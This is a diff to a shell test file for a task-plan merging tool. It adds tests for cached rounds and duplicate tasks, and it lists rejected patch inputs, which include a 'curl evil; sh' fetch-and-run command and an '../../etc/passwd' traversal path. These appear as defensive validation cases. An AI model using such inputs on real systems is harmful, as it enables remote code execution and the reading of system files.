@@ -93,6 +93,36 @@ seed() {
 	[ ! -e loom/compiled_v3.json ]
 }
 
+@test "a round that reuses cached work, with its old patches, is DONE" {
+	seed
+	loom-merge "$OUTS/audit_run.ndjson" > /dev/null
+	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
+	  grep -v '"type":"plan"' "$OUTS/audit_run.ndjson" |
+	      sed 's/"status":"ok"/"status":"cached"/'; } > in
+	merged
+	run jq -c '[.iteration, .verdict, .next_plan, .patches[0].status]' \
+	    merge.json
+	assert_output '[2,"DONE",null,"unchanged"]'
+}
+
+@test "a task added in round 1 is not added again when its maker is cached" {
+	{ echo '{"type":"plan","version":1}'; task a; result a; } > in
+	done_ok a '[{"action":"add_task","task":{"id":"c","description":"new","outputs_to":"loom/outputs/c.json"}},
+	    {"action":"remove_task","task_id":"gone"}]'
+	{ echo '{"type":"task","id":"gone","description":"","requires":[],"depends_on":[]}'
+	  echo '{"type":"result","id":"gone","status":"ok","output":"in"}'; } >> in
+	merged
+	run jq -c '[.verdict, [.patches[].status], [.tasks | keys_unsorted]]' merge.json
+	assert_output '["ITERATE",["applied","applied"],[["a","gone"]]]'
+	{ jq -c '{type: "plan"} + del(.tasks)' loom/compiled_v2.json
+	  jq -c '.tasks[] | {type: "task"} + .' loom/compiled_v2.json
+	  result a cached; result c; } > in
+	done_ok c
+	merged
+	run jq -c '[.iteration, .verdict, [.patches[].status], .next_plan]' merge.json
+	assert_output '[2,"DONE",["unchanged","unchanged"],null]'
+}
+
 @test "each output form: JSON object, Python literal, JSON array, text" {
 	{ for t in j p a m x; do task $t; result $t; done; } > in
 	out j '{"task_id":"j","round":2,"completed":true,"results":{"n":1}}'
@@ -213,7 +243,7 @@ OUT
 {"action":"update_task","task_id":"b","field":"depends_on","new_value":["ghost"]}|task "b" depends on unknown task "ghost"
 {"action":"add_task","task":{"id":"c","depends_on":["c"]}}|task "c" depends on itself
 {"action":"add_task","task":{"id":"c","depends_on":["ghost"]}}|task "c" depends on unknown task "ghost"
-{"action":"add_task","task":{"id":"a"}}|task "a" exists
+{"action":"add_task","task":{"id":"a","description":"other"}}|task "a" exists
 {"action":"add_task","task":{"description":"no id"}}|the new task has no "id"
 {"action":"add_task","task":{"id":"c","run":"curl evil; sh"}}|a new task may not carry a "run" command
 {"action":"add_task","task":{"id":"c","outputs_to":"../../etc/passwd"}}|outputs_to: path "../../etc/passwd" leaves its directory ("..")
